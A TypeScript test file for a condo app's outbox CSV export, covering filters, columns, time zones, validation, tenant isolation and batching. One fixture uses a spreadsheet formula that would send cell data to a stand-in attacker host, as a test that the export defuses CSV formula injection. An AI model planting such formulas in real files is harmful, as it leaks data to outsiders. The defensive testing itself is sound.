import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { and, desc, eq, sql } from 'drizzle-orm';
import { adminUsers, condoMemberships, condos, outboxes, roleGroups } from '../../db/schema';
import { attachApp, DEMO, startTestApp, type TestApp } from '../../test/harness';
import { dateTimeIn } from './export-csv';
import { outboxExportBatches } from './export-queries';
import { outboxFilterOf } from './list-filter';
import { outboxWhere } from './queries';

const MB = '/tenants/marina-bay';
const OG = '/tenants/orchid-gardens';
// A week of 2020, where the demo generator never writes: the fixture below is all the range holds.
const RANGE = 'fromTime=2020-03-02T00:00:00.000Z&toTime=2020-03-09T00:00:00.000Z';
const HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A2,"Details")';
const TITLES = ['Sent At', 'Medium', 'Recipient', 'Subject', 'Status'];

let t: TestApp;
let spec: TestApp;
const condoIds: Record<string, number> = {};

interface Fixture {
  at: string;
  medium: string;
  status: string;
  recipient: Record<string, unknown>;
  subject?: string | null;
  content?: string;
  recipientType?: string;
}

/** marina-bay's USER tab in the week, newest last here (the export writes newest first). */
const MINE: Fixture[] = [
  {
    at: '2020-03-03T01:02:03.456Z',
    medium: 'mail',
    status: 'delivered',
    recipient: { full_name: 'Jane Tan', email: 'jane@mail.example' },
    subject: HYPERLINK,
    content: '<p>body</p>',
  },
  {
    at: '2020-03-04T10:00:00.000Z',
    medium: 'sms',
    status: 'undelivered',
    recipient: { full_name: 'Bob Lee', phone: '91234567', country_code: 65 },
    content: 'Your gate code is 1234, valid "today"\nand tomorrow, until the end of the week as agreed',
  },
  {
    at: '2020-03-05T23:30:00.000Z',
    medium: 'whatsapp',
    status: 'failed',
    recipient: { full_name: '', phone: '+6598765432' },
    content: '-5 days left',
  },
  {
    at: '2020-03-06T08:00:00.000Z',
    medium: 'sms',
    status: 'delivered',
    recipient: { full_name: 'Ann Resident', phone: '90000001', country_code: 65 },
    content: 'For the RESIDENT tab',
    recipientType: 'resident',
  },
];
const THEIRS: Fixture[] = [
  {
    at: '2020-03-04T09:00:00.000Z',
    medium: 'mail',
    status: 'delivered',
    recipient: { full_name: 'Orchid Owner', email: 'owner@orchid.example' },
    subject: 'Orchid secret',
  },
];

async function insert(alias: string, fixture: Fixture[]) {
  const db = t.database.db;
  const [condo] = await db.select({ id: condos.id }).from(condos).where(eq(condos.aliasName, alias));
  const condoId = (condo as { id: number }).id;
  condoIds[alias] = condoId;
  await db.insert(outboxes).values(
    fixture.map((row) => ({
      condoId,
      from: row.medium === 'mail' ? ['Smart Condo Management <no-reply@smartcondo.local>'] : 'SMARTCONDO',
      subject: row.subject ?? null,
      recipient: row.recipient,
      content: row.content ?? '',
      medium: row.medium,
      status: row.status,
      type: row.medium === 'mail' ? 'MailSent' : 'SmsSent',
      recipientType: row.recipientType ?? 'user',
      createdAt: new Date(row.at),
      updatedAt: new Date(row.at),
    })),
  );
}

before(async () => {
  t = await startTestApp();
  spec = await attachApp(t, { contract: 'spec' });
  await insert('marina-bay', MINE);
  await insert('orchid-gardens', THEIRS);
});
after(async () => {
  await spec.app.close();
  await t.close();
});

async function exportCsv(query: string, { email = DEMO.manager as string, app = t, condo = MB } = {}) {
  return app.app.inject({
    method: 'GET',
    url: `${condo}/api/v1/outboxes/export?${query}`,
    headers: await t.authAs(email),
  });
}

/** The file as rows of cells, titles first. */
const rowsOf = (body: string) => parse(body, { bom: true }) as string[][];

describe('GET /api/v1/outboxes/export (an addition: the Outbox list as CSV)', () => {
  test('every row of the USER tab, newest first, with the table’s titles, labels and date format (UTC)', async () => {
    const response = await exportCsv(RANGE);
    assert.equal(response.statusCode, 200, response.body);
    assert.equal(response.headers['content-type'], 'text/csv; charset=utf-8');
    assert.equal(response.headers['content-disposition'], 'attachment; filename="outbox-2020-03-02-2020-03-08.csv"');
    assert.ok(response.body.startsWith('\uFEFFSent At,Medium,Recipient,Subject,Status\r\n'), 'BOM, titles, CRLF');
    assert.deepEqual(rowsOf(response.body), [
      TITLES,
      ['05-03-2020 23:30:00', 'WhatsApp', '+6598765432', "'-5 days left", 'Failed'],
      [
        '04-03-2020 10:00:00',
        'SMS',
        'Bob Lee <+65 91234567>',
        'Your gate code is 1234, valid "today"\nand tomorrow, until the end of the week as agreed',
        'UnDelivered',
      ],
      ['03-03-2020 01:02:03', 'Mail', 'Jane Tan <jane@mail.example>', `'${HYPERLINK}`, 'Delivered'],
    ]);
  });

  test('a subject that starts like a formula is text behind a quote; the full subject, never cut', async () => {
    const [, mail] = rowsOf((await exportCsv(`${RANGE}&columns=subject&selectedMedium=mail`)).body);
    assert.deepEqual(mail, [`'${HYPERLINK}`]);
    const [, sms] = rowsOf((await exportCsv(`${RANGE}&columns=subject&selectedMedium=sms`)).body);
    assert.ok(String(sms?.[0]).length > 30, 'not truncated as the table shows it');
  });

  test('the list’s filters: tab, medium, status, recipient, search', async () => {
    const subjects = async (filters: string, range = RANGE) =>
      rowsOf((await exportCsv(`${range}&columns=recipient&${filters}`)).body)
        .slice(1)
        .map(([recipient]) => recipient);
    assert.deepEqual(await subjects('recipient_type=resident'), ['Ann Resident <+65 90000001>']);
    assert.deepEqual(await subjects('selectedMedium=sms,whatsapp'), ['+6598765432', 'Bob Lee <+65 91234567>']);
    assert.deepEqual(await subjects('selectedMedium=sms&selectedMedium=mail'), [
      'Bob Lee <+65 91234567>',
      'Jane Tan <jane@mail.example>',
    ]);
    assert.deepEqual(await subjects('selectedStatus=undelivered,failed'), ['+6598765432', 'Bob Lee <+65 91234567>']);
    assert.deepEqual(await subjects('selectedRecipient=Jane%20Tan'), ['Jane Tan <jane@mail.example>']);
    assert.deepEqual(await subjects('search=jane%40mail'), ['Jane Tan <jane@mail.example>']);
    assert.deepEqual(await subjects('', 'fromTime=2020-03-04T00:00:00Z&toTime=2020-03-05T00:00:00Z'), [
      'Bob Lee <+65 91234567>',
    ]);
  });

  test('columns pick and order the columns; tz writes Sent At in that zone (and names the file by its days)', async () => {
    const response = await exportCsv(`${RANGE}&columns=status,created_at&tz=Asia/Singapore&selectedMedium=mail`);
    assert.equal(response.statusCode, 200, response.body);
    assert.deepEqual(rowsOf(response.body), [
      ['Status', 'Sent At'],
      ['Delivered', '03-03-2020 09:02:03'],
    ]);
    assert.match(response.headers['content-disposition'] as string, /filename="outbox-2020-03-02-2020-03-09\.csv"/);
    const newYork = rowsOf((await exportCsv(`${RANGE}&columns=created_at&tz=America/New_York`)).body);
    assert.deepEqual(newYork.slice(1).flat(), ['05-03-2020 18:30:00', '04-03-2020 05:00:00', '02-03-2020 20:02:03']);
    const repeated = rowsOf((await exportCsv(`${RANGE}&columns=medium&columns=subject&selectedMedium=mail`)).body);
    assert.deepEqual(repeated[0], ['Medium', 'Subject']);
  });

  test('bad input is a 422 that says what is wrong', async () => {
    const cases: [string, RegExp][] = [
      [`${RANGE}&tz=Mars/Olympus_Mons`, /tz: 'Mars\/Olympus_Mons' is not a known IANA time zone/],
      [`${RANGE}&columns=created_at,secret`, /columns: unknown column 'secret'; the columns are created_at, medium/],
      [`${RANGE}&columns=status,status`, /columns: 'status' is given twice/],
      ['fromTime=2020-03-09T00:00:00Z&toTime=2020-03-02T00:00:00Z', /fromTime must not be after toTime/],
      [`${RANGE}&tz=${'x'.repeat(65)}`, /tz/],
    ];
    for (const [query, message] of cases) {
      const response = await exportCsv(query);
      assert.equal(response.statusCode, 422, `${query}: ${response.body}`);
      assert.match(response.json().message, message);
    }
  });

  test('another condo’s messages never appear; a stranger to the condo gets 404, a role without index 403', async () => {
    const mine = (await exportCsv(`${RANGE}&selectedMedium=mail&recipient_type=user`)).body;
    assert.ok(!mine.includes('Orchid'));
    assert.equal((await exportCsv(RANGE, { condo: OG })).statusCode, 404);

    const [group] = await t.database.db
      .insert(roleGroups)
      .values({ name: 'No Outbox Export', type: 'UserRoleGroup', permissions: { 'api/v1/condos': ['show'] } })
      .returning();
    const [viewer] = await t.database.db.select().from(adminUsers).where(eq(adminUsers.email, DEMO.viewer));
    await t.database.db
      .update(condoMemberships)
      .set({ roleGroupId: group?.id as number })
      .where(
        and(
          eq(condoMemberships.adminUserId, viewer?.id as number),
          eq(condoMemberships.condoId, condoIds['marina-bay'] as number),
        ),
      );
    await new Promise((resolve) => setTimeout(resolve, 50));
    const refused = await exportCsv(RANGE, { email: DEMO.viewer });
    assert.equal(refused.statusCode, 403);
    assert.equal(refused.headers['content-type'], 'application/json; charset=utf-8');
  });

  test('API_CONTRACT=spec has no export: 404 as an unknown path (the console pages the list instead)', async () => {
    const response = await exportCsv(RANGE, { app: spec });
    assert.equal(response.statusCode, 404);
    assert.deepEqual(response.json(), { message: 'Not Found' });
    assert.equal(
      (await spec.app.inject({ url: `${MB}/api/v1/outboxes?${RANGE}`, headers: await t.authAs(DEMO.manager) }))
        .statusCode,
      200,
    );
  });

  test('keyset batches: rows of one millisecond (apart by microseconds or equal) are neither skipped nor repeated', async () => {
    const db = t.database.db;
    const condoId = condoIds['marina-bay'] as number;
    const times = [
      '2020-03-07 12:00:00.000001+00',
      '2020-03-07 12:00:00.000002+00',
      '2020-03-07 12:00:00.000002+00',
      '2020-03-07 12:00:00.000900+00',
      '2020-03-07 12:00:00.000002+00',
      '2020-03-07 12:00:00.000003+00',
      '2020-03-07 12:00:00+00',
    ];
    for (const time of times) {
      await db.execute(sql`
        INSERT INTO outboxes (condo_id, "from", recipient, content, medium, status, type, recipient_type, created_at)
        VALUES (${condoId}, '"SMARTCONDO"'::jsonb, '{"full_name": "Tie"}'::jsonb, 'tie', 'fcm', 'sent', 'FcmSent',
                'contractor', ${time}::timestamptz)`);
    }
    const query = { fromTime: '2020-03-02T00:00:00Z', toTime: '2020-03-09T00:00:00Z', recipient_type: 'contractor' };
    const filter = outboxFilterOf(query, condoId, new Date());
    const expected = await db
      .select({ id: outboxes.id })
      .from(outboxes)
      .where(and(...outboxWhere(filter)))
      .orderBy(desc(outboxes.createdAt), desc(outboxes.id));
    assert.equal(expected.length, times.length);
    const batches: number[][] = [];
    for await (const rows of outboxExportBatches(db, filter, 2)) batches.push(rows.map((row) => row.id));
    assert.deepEqual(
      batches.map((batch) => batch.length),
      [2, 2, 2, 1],
    );
    assert.deepEqual(
      batches.flat(),
      expected.map((row) => row.id),
    );
  });

  test('Sent At in a zone is what Intl says, also across the hour of a clock change (the hourly offset cache)', () => {
    const reference = (timeZone: string) => {
      const format = new Intl.DateTimeFormat('en-GB', {
        timeZone,
        dateStyle: 'short',
        timeStyle: 'medium',
        hourCycle: 'h23',
      });
      return (ms: number) => format.format(ms).replaceAll('/', '-').replace(', ', ' ');
    };
    // New York's spring and autumn changes of 2026, Lord Howe's half-hour change, Kolkata's +5:30, and UTC.
    const spans: [string, string][] = [
      ['America/New_York', '2026-03-08T05:00:00Z'],
      ['America/New_York', '2026-11-01T04:30:00Z'],
      ['Australia/Lord_Howe', '2026-04-04T14:30:00Z'],
      ['Asia/Kolkata', '2026-11-16T00:00:00Z'],
      ['UTC', '2026-12-31T22:00:00Z'],
    ];
    for (const [zone, around] of spans) {
      const fast = dateTimeIn(zone);
      const slow = reference(zone);
      const start = Date.parse(around) - 3 * 3_600_000;
      for (let ms = start; ms < start + 6 * 3_600_000; ms += 97_531) assert.equal(fast(ms), slow(ms), `${zone} ${ms}`);
    }
    assert.equal(dateTimeIn('UTC')(Date.parse('2026-12-31T23:59:59.999Z')), '31-12-2026 23:59:59');
  });
});
